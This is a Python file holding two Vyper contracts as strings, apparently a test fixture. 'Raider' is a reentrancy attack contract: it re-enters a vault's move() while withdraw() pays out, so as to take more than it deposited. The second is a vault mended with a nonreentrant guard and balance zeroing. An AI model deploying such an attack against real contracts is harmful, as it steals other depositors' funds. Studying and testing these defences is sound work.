# loses: 2
raider = '''#pragma version 0.4.3
#pragma evm-version cancun
"""
@title Raider
@license BSD-3-Clause
@notice Deposits into a vault, and takes out more than that.
"""


interface Vault:
    def deposit(): payable
    def move(to: address, amount: uint256): nonpayable
    def withdraw(): nonpayable


# @dev Who sent it.
owner: immutable(address)


@deploy
def __init__():
    """@notice Belongs to its creator."""
    owner = msg.sender


@external
@payable
def attack(target: address):
    """@notice Attacks a vault with what is sent, and hands on what it has then."""
    vault: Vault = Vault(target)
    extcall vault.deposit(value=msg.value)
    extcall vault.withdraw()
    raw_call(owner, b"", value=self.balance)


@external
@payable
def __default__():
    """@notice Runs when the vault pays."""
    extcall Vault(msg.sender).move(self, msg.value)
'''

mended_vault = '''#pragma version 0.4.3
#pragma evm-version cancun
"""
@title Vault
@license BSD-3-Clause
@notice Keeps ether for many. A claim can be paid out, or moved to another account.
"""


# @dev Wei that each account may withdraw.
deposits: public(HashMap[address, uint256])


@external
@payable
def deposit():
    """@notice Notes what is sent for the caller."""
    self.deposits[msg.sender] += msg.value


@external
def move(to: address, amount: uint256):
    """@notice Moves a part of the caller's claim to another account."""
    assert self.deposits[msg.sender] >= amount, "vault: insufficient deposit"
    self.deposits[msg.sender] -= amount
    self.deposits[to] += amount


@external
@nonreentrant
def withdraw():
    """@notice Pays the caller all that the vault notes for it."""
    amount: uint256 = self.deposits[msg.sender]
    assert amount > 0, "vault: nothing deposited"
    self.deposits[msg.sender] = 0
    raw_call(msg.sender, b"", value=amount)
'''
